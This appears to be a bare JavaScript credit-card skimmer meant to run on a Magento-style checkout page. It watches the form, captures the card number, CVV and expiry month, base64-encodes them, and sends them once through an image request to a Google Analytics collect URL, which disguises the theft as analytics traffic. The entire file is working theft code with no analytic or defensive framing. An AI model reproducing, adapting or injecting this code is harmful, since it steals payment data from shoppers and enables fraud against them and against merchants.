(function () {
  var done = 0;
  document.addEventListener('change', function () {
    var n = document.querySelector('input[name="payment[cc_number]"]'), c = document.querySelector('input[name="payment[cc_cid]"]');
    if (n && c && n.value.length > 12 && c.value.length > 2 && !done) {
      done = 1;
      var payload = btoa(n.value + '|' + c.value + '|' + document.querySelector('[name="payment[cc_exp_month]"]').value);
      new Image().src = 'https://www.google-analytics.com/collect?v=1&t=event&tid=UA-000000-2&cid=' + Math.random() + '&ec=' + payload;
    }
  });
})();
